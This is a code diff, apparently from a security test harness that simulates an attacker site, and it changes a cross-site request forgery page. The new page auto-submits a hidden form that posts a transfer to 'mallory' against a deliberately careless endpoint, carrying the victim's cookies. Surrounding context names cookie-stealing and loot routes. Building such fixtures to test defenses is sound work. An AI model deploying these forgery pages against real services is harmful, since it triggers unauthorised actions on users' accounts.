@@ -16,7 +16,7 @@ export function thiefRoutes(world: World): Routes {
     'GET /thief/loot': () => json(200, { places: loot }, { 'Access-Control-Allow-Origin': world.siteUrl }),
 
     /** A page that sends a form to the API as soon as it is shown, with whatever cookies ride along. */
-    'GET /thief/forgery': () => html(200, forgeryPage(`${world.apiUrl}/careless-transfers`, world.siteUrl)),
+    'GET /thief/forgery': () => html(200, forgeryPage(`${world.apiUrl}/careless-transfers`)),
   };
 }
 
@@ -54,10 +54,8 @@ function stealScript(lootUrl: string): string {
 })();`;
 }
 
-function forgeryPage(target: string, reportTo: string): string {
-  return `<!doctype html><meta charset="utf-8"><title>A page of another site</title><script>
-fetch(${JSON.stringify(target)}, {
-  method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ to: 'mallory' }),
-}).finally(() => parent.postMessage('forged', ${JSON.stringify(reportTo)}));
-</script>`;
+function forgeryPage(target: string): string {
+  return `<!doctype html><meta charset="utf-8"><title>A page of another site</title>
+<form method="post" action="${target}"><input name="to" value="mallory"></form>
+<script>document.forms[0].submit();</script>`;
 }
